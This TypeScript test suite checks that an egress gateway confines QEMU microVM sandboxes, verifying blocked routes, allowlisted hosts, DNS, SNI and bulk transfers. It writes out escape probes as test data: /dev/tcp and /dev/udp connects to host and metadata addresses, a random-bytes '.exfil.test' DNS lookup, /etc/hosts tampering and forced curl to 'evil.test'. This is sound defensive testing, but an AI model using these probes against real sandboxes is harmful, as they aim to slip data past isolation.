// Egress with real QEMU microVMs restored from the template (the QEMU driver and the guest agent's tunnel), real curl in
// the guest, real TLS/HTTP origins on the host's 127.0.0.1 and the gateway in between. Skips (saying why) only
// when QEMU or the template is absent.
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import http from 'node:http';
import { createHash } from 'node:crypto';
import net from 'node:net';
import os from 'node:os';
import type { Sandbox } from '../../companion/sandbox/types';
import type { QemuDriver } from '../../companion/sandbox/qemu/driver';
import { createEgressGateway, type EgressGateway } from '../../companion/egress/proxy';
import { EventHub } from '../../companion/events';
import type { EgressDecision } from '../../companion/protocol/control';
import { setStderrLogging } from '../../companion/log';
import { newDriver, sh, skipWithoutVms, text } from '../vm/helpers';
import { makeTestPki, startHttpsFixture, startHttpFixture, until, type Fixture, type TestPki } from './helpers/fixtures';

interface Listeners { tcp: net.Server; tcpPort: number; tcpHits: number; udp: dgram.Socket; udpPort: number; udpHits: number; close(): Promise<void> }

/** A TCP and a UDP listener on the host's 127.0.0.1 that count whatever reaches them. */
async function hostListeners(): Promise<Listeners> {
  const l = { tcpHits: 0, udpHits: 0 } as Listeners;
  l.tcp = net.createServer((s) => { l.tcpHits += 1; s.destroy(); });
  await new Promise<void>((r) => l.tcp.listen(0, '127.0.0.1', () => r()));
  l.tcpPort = (l.tcp.address() as net.AddressInfo).port;
  l.udp = dgram.createSocket('udp4');
  l.udp.on('message', () => { l.udpHits += 1; });
  await new Promise<void>((r) => l.udp.bind(0, '127.0.0.1', () => r()));
  l.udpPort = l.udp.address().port;
  l.close = async () => { await new Promise<void>((r) => l.tcp.close(() => r())); l.udp.close(); };
  return l;
}

/** An HTTP origin serving `size` bytes of seeded pseudo-random data (so a corrupted or truncated copy is detected). */
async function startBulkOrigin(size: number): Promise<{ port: number; sha256: string; size: number; close(): Promise<void> }> {
  const body = Buffer.alloc(size);
  let x = 0x9e3779b9;
  for (let i = 0; i < size; i += 4) { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; body.writeUInt32LE(x >>> 0, i); }
  const server = http.createServer((req, res) => {
    if (req.method !== 'POST') { res.setHeader('content-length', size); res.end(body); return; }
    const h = createHash('sha256');
    let n = 0;
    req.on('data', (c: Buffer) => { h.update(c); n += c.length; });
    req.on('end', () => res.end(`received ${n} ${h.digest('hex')}\n`));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  return {
    port: (server.address() as net.AddressInfo).port, size, sha256: createHash('sha256').update(body).digest('hex'),
    close: () => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }),
  };
}

/** Every address of this host a guest might try (besides loopback and the usual slirp gateway). */
function hostAddresses(): string[] {
  return Object.values(os.networkInterfaces()).flat().filter((a) => a && !a.internal && a.family === 'IPv4').map((a) => a!.address);
}

/** A guest script that tries TCP and UDP to each target and prints REACHED/blocked per target. */
function probeScript(targets: string[], tcpPort: number, udpPort: number): string {
  return [
    `for t in ${targets.join(' ')}; do`,
    `  if timeout 5 bash -c "exec 3<>/dev/tcp/$t/${tcpPort}" 2>/dev/null; then echo "REACHED tcp $t"; else echo "blocked tcp $t"; fi`,
    `  timeout 5 bash -c "echo ping > /dev/udp/$t/${udpPort}" 2>/dev/null && echo "sent udp $t" || echo "blocked udp $t"`,
    'done',
    'echo "routes: $(tail -n +2 /proc/net/route | wc -l)"',
  ].join('\n');
}

describe('egress with real VMs', function () {
  this.timeout(300_000);
  let driver: QemuDriver;
  let pki: TestPki;
  let listeners: Listeners;
  const opened: Sandbox[] = [];

  before(async function () {
    skipWithoutVms(this);
    setStderrLogging(false);
    driver = newDriver();
    pki = makeTestPki(['allowed.test', '*.example.test', 'evil.test']);
    listeners = await hostListeners();
  });
  afterEach(async () => { await Promise.all(opened.splice(0).map((s) => s.destroy())); });
  after(async () => {
    setStderrLogging(true);
    await driver?.close();
    await listeners?.close();
  });

  it('egress none: no route anywhere; host listeners on 127.0.0.1 and every host address see nothing', async () => {
    const s = await driver.acquire({ sessionId: 'egress-none' });
    opened.push(s);
    const targets = ['127.0.0.1', '10.0.2.2', '169.254.169.254', ...hostAddresses()];
    const r = await sh(s, probeScript(targets, listeners.tcpPort, listeners.udpPort), { timeoutMs: 120_000 });
    const out = text(r);
    assert.doesNotMatch(out, /REACHED/, out);
    for (const t of targets.filter((t) => t !== '127.0.0.1')) assert.match(out, new RegExp(`blocked udp ${t.replace(/\./g, '\\.')}`), out);
    assert.match(out, /routes: 0/);
    const dns = await sh(s, 'getent hosts allowed.test; echo "getent=$?"; ls /sys/class/net; curl -sS --max-time 10 https://allowed.test/ 2>&1; echo "curl=$?"', { timeoutMs: 60_000 });
    assert.match(text(dns), /getent=2/);
    assert.match(text(dns), /curl=6/, text(dns));
    assert.doesNotMatch(text(dns), /eth|ens|enp/, 'no network device');
    assert.equal(listeners.tcpHits, 0);
    assert.equal(listeners.udpHits, 0);
  });

  describe('egress allow', () => {
    let allowed: Fixture;
    let evil: Fixture;
    let plain: Fixture;
    let bulk: { port: number; sha256: string; size: number; close(): Promise<void> };
    let gw: EgressGateway;
    let s: Sandbox;
    const decisions: EgressDecision[] = [];
    const resolved: string[] = [];
    const curl = async (args: string) => {
      const r = await sh(s, `curl -sS --max-time 20 --cacert /tmp/test-ca.pem ${args} 2>&1; echo "exit=$?"`, { timeoutMs: 60_000 });
      const out = text(r);
      const m = /exit=(\d+)\s*$/.exec(out);
      return { out, exit: m ? Number(m[1]) : -1 };
    };
    const lastDecision = () => decisions.at(-1)!;

    before(async function () {
      skipWithoutVms(this);
      allowed = await startHttpsFixture(pki, 'allowed-origin');
      evil = await startHttpsFixture(pki, 'evil-origin');
      plain = await startHttpFixture('http-origin');
      bulk = await startBulkOrigin(16 << 20);
      const hub = new EventHub();
      hub.subscribe((e) => { if (e.type === 'egress.decision') decisions.push(e.decision); });
      gw = createEgressGateway({
        policy: { allow: [`allowed.test:${allowed.port}`, `*.example.test:${allowed.port}`, `allowed.test:${plain.port}`, `bulk.test:${bulk.port}`], allowPrivate: ['127.0.0.1/32'] },
        hub, sessionId: 'egress-allow',
        // The host's DNS stand-in: the .test names live on this host's loopback.
        resolver: async (host) => { resolved.push(host); return ['127.0.0.1']; },
      });
      s = await driver.acquire({ sessionId: 'egress-allow', egress: gw });
      await s.writeFile('/tmp/test-ca.pem', Buffer.from(pki.caPem));
    });
    after(async () => {
      await s?.destroy();
      gw?.close();
      await Promise.all([allowed?.close(), evil?.close(), plain?.close(), bulk?.close()]);
    });

    it('curl to an allowed name succeeds through the gateway, which resolved it on the host', async () => {
      const r = await curl(`https://allowed.test:${allowed.port}/`);
      assert.equal(r.exit, 0, r.out);
      assert.match(r.out, /allowed-origin host=allowed\.test/);
      assert.deepEqual([lastDecision().allowed, lastDecision().kind, lastDecision().host, lastDecision().address], [true, 'tls', 'allowed.test', '127.0.0.1']);
      assert.ok(resolved.includes('allowed.test'));
    });

    it('curl to a denied name fails: NXDOMAIN in the guest, and refused at the gateway even when forced', async () => {
      const r = await curl(`https://evil.test:${allowed.port}/`);
      assert.equal(r.exit, 6, r.out);   // could not resolve host
      const forced = await curl(`--resolve evil.test:${allowed.port}:127.0.0.1 https://evil.test:${allowed.port}/`);
      assert.notEqual(forced.exit, 0, forced.out);
      assert.deepEqual([lastDecision().allowed, lastDecision().host, lastDecision().reason], [false, 'evil.test', 'not_in_allowlist']);
      assert.ok(!resolved.includes('evil.test'), 'a denied name is never resolved on the host');
    });

    it('an allowed SNI aimed at another address reaches nothing but the resolved origin', async () => {
      const before = allowed.connections;
      const other = await curl(`--resolve allowed.test:${allowed.port}:10.9.9.9 https://allowed.test:${allowed.port}/`);
      assert.equal(other.exit, 7, other.out);   // no route: the guest has no NIC
      const evilPort = await curl(`--connect-to allowed.test:${allowed.port}:127.0.0.1:${evil.port} https://allowed.test:${allowed.port}/`);
      assert.equal(evilPort.exit, 7, evilPort.out);  // nothing listens there in the guest: the agent serves only policy ports
      const hosts = await sh(s, `echo "127.0.0.1 allowed.test" > /etc/hosts.test && cat /etc/hosts >> /etc/hosts.test && cp /etc/hosts.test /etc/hosts && curl -sS --max-time 20 --cacert /tmp/test-ca.pem https://allowed.test:${allowed.port}/`, { timeoutMs: 60_000 });
      assert.match(text(hosts), /allowed-origin/);
      assert.equal(evil.connections, 0);
      assert.equal(allowed.connections, before + 1);
    });

    it('wildcard, case, trailing-dot and IP-literal edges', async () => {
      for (const name of ['a.example.test', 'B.EXAMPLE.TEST', 'c.example.test.']) {
        const r = await curl(`https://${name}:${allowed.port}/`);
        assert.equal(r.exit, 0, `${name}: ${r.out}`);
        assert.match(r.out, /allowed-origin/);
      }
      for (const name of ['example.test', 'evilexample.test', 'example.test.evil.test']) {
        const r = await curl(`https://${name}:${allowed.port}/`);
        assert.equal(r.exit, 6, `${name}: ${r.out}`);
      }
      const literal = await curl(`-k https://127.0.0.1:${allowed.port}/`);
      assert.notEqual(literal.exit, 0, literal.out);
      assert.equal(lastDecision().reason, 'no_sni');
      const plainLiteral = await curl(`-i http://127.0.0.1:${plain.port}/`);
      assert.match(plainLiteral.out, /403 Forbidden/);
      assert.equal(lastDecision().reason, 'ip_literal');
    });

    it('plain HTTP by Host: allowed passes, denied gets 403', async () => {
      const ok = await curl(`http://allowed.test:${plain.port}/`);
      assert.equal(ok.exit, 0, ok.out);
      assert.match(ok.out, /http-origin host=allowed\.test/);
      const denied = await curl(`-i --resolve evil.test:${plain.port}:127.0.0.1 http://evil.test:${plain.port}/`);
      assert.match(denied.out, /403 Forbidden/);
      assert.equal(plain.requests.filter((r) => r.host?.startsWith('evil')).length, 0);
    });

    it('a 16 MiB download and upload arrive intact through the tunnel and the gateway', async () => {
      const r = await sh(s, `curl -sS --max-time 240 -o /tmp/bulk http://bulk.test:${bulk.port}/ && stat -c %s /tmp/bulk && sha256sum /tmp/bulk`, { timeoutMs: 280_000 });
      assert.equal(r.exitCode, 0, text(r));
      assert.match(text(r), new RegExp(`^${bulk.size}\\n${bulk.sha256} `), text(r));
      // And back up (guest -> host, a Content-Length body behind `Expect: 100-continue`).
      const up = await sh(s, `curl -sS --max-time 240 --data-binary @/tmp/bulk http://bulk.test:${bulk.port}/upload`, { timeoutMs: 280_000 });
      assert.equal(text(up).trim(), `received ${bulk.size} ${bulk.sha256}`);
    });

    it('16 parallel TLS connections from a busy guest all complete, and every tunnel is torn down', async () => {
      const before = allowed.connections;
      const r = await sh(s, [
        `for i in $(seq 1 16); do (curl -sS --max-time 120 --cacert /tmp/test-ca.pem https://allowed.test:${allowed.port}/p$i > /tmp/par.$i 2>&1; echo $? > /tmp/par.rc.$i) & done; wait`,
        'echo "ok=$(grep -l allowed-origin /tmp/par.[0-9]* | wc -l) rc=$(cat /tmp/par.rc.* | sort -u | tr "\n" ,)"',
      ].join('\n'), { timeoutMs: 240_000 });
      assert.match(text(r), /ok=16 rc=0,/, text(r));
      assert.equal(allowed.connections, before + 16);
      await until(() => gw.activeConnections === 0);
    });

    it('DNS for denied names leaks nothing, and no UDP or other TCP path leaves the guest', async () => {
      const before = resolved.length;
      const r = await sh(s, 'getent hosts "x.$(head -c 8 /dev/urandom | od -An -tx1 | tr -d \' \\n\').exfil.test"; echo "getent=$?"; getent hosts allowed.test', { timeoutMs: 60_000 });
      assert.match(text(r), /getent=2/);
      assert.match(text(r), /127\.0\.0\.1\s+allowed\.test/);
      assert.equal(resolved.length, before, 'the host resolved nothing for DNS queries');
      assert.ok(decisions.some((d) => d.kind === 'dns' && !d.allowed && /\.exfil\.test$/.test(d.host)));
      const probe = await sh(s, probeScript(['127.0.0.1', '10.0.2.2', '169.254.169.254', ...hostAddresses()], listeners.tcpPort, listeners.udpPort), { timeoutMs: 120_000 });
      assert.doesNotMatch(text(probe), /REACHED/, text(probe));
      assert.match(text(probe), /routes: 0/);
      assert.equal(listeners.tcpHits, 0);
      assert.equal(listeners.udpHits, 0);
    });
  });
});
